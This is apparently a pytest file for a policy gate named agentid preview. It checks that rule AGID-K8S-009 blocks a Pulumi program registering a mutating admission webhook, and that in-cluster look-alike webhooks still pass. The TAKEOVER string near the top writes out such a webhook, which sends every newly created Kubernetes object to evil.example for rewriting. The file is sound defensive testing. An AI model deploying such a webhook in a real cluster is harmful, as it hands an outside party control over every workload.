"""`agentid preview` end to end on red6's admission-webhook case (suspicion 1): a program that registers a
MutatingWebhookConfiguration sending every new object to a server outside the cluster passed the gate (exit 0);
now AGID-K8S-009 blocks it. The look-alike, a program with an in-cluster validating webhook over pods and a
mutating webhook over its own custom resources, still passes."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from .conftest import AGENT_GUARD, run_cli

pytestmark = pytest.mark.skipif(not (AGENT_GUARD / "PulumiPolicy.yaml").is_file(), reason="agent_guard pack not present")

HEADER = """import pulumi_kubernetes as k8s
from pulumi_kubernetes.admissionregistration import v1 as ar
"""
TAKEOVER = HEADER + """ar.MutatingWebhookConfiguration("wh", webhooks=[ar.MutatingWebhookArgs(
    name="x.evil.example", admission_review_versions=["v1"], side_effects="None",
    client_config=ar.WebhookClientConfigArgs(url="https://evil.example/mutate"),
    rules=[ar.RuleWithOperationsArgs(operations=["CREATE"], api_groups=["*"], api_versions=["*"], resources=["*"])])])
"""
IN_CLUSTER = """ar.WebhookClientConfigArgs(service=ar.ServiceReferenceArgs(namespace="agents", name="hooks"))"""
LOOK_ALIKE = HEADER + f"""ar.ValidatingWebhookConfiguration("check-pods", webhooks=[ar.ValidatingWebhookArgs(
    name="pods.agents.example.com", admission_review_versions=["v1"], side_effects="None", client_config={IN_CLUSTER},
    rules=[ar.RuleWithOperationsArgs(operations=["CREATE"], api_groups=[""], api_versions=["v1"], resources=["pods"])])])
ar.MutatingWebhookConfiguration("defaults", webhooks=[ar.MutatingWebhookArgs(
    name="widgets.agents.example.com", admission_review_versions=["v1"], side_effects="None", client_config={IN_CLUSTER},
    rules=[ar.RuleWithOperationsArgs(operations=["CREATE", "UPDATE"], api_groups=["agents.example.com"],
                                     api_versions=["*"], resources=["widgets"])])])
"""


def project(tmp_path: Path, program: str) -> Path:
    (tmp_path / "Pulumi.yaml").write_text("name: k8sgate\nruntime: python\n")
    (tmp_path / "Pulumi.dev.yaml").write_text("config: {}\n")
    (tmp_path / "__main__.py").write_text(program)
    return tmp_path


def test_a_mutating_webhook_to_an_outside_url_blocks_the_gate(tmp_path):
    result = run_cli(project(tmp_path, TAKEOVER), "--stack", "dev", "--policy-pack", str(AGENT_GUARD),
                     "--json", "gate.json")
    output = result.stdout + result.stderr
    assert result.code == 1, output
    assert "MANDATORY critical  AGID-K8S-009  wh (kubernetes:admissionregistration.k8s.io/v1:MutatingWebhookConfiguration)" \
        in output
    assert "wh webhooks[0] (x.evil.example) rewrites core/pods" in output
    violations = [v for v in result.json("gate.json")["violations"] if v["policy"] == "AGID-K8S-009"]
    assert [(v["resourceName"], v["enforcementLevel"], v["line"]) for v in violations] == [("wh", "mandatory", 3)], violations


def test_in_cluster_webhooks_over_pods_or_own_resources_pass(tmp_path):
    result = run_cli(project(tmp_path, LOOK_ALIKE), "--stack", "dev", "--policy-pack", str(AGENT_GUARD))
    output = result.stdout + result.stderr
    assert result.code == 0, output
    assert "AGID-K8S-009" not in output
    assert "check-pods" in output and "defaults" in output  # both registered and judged
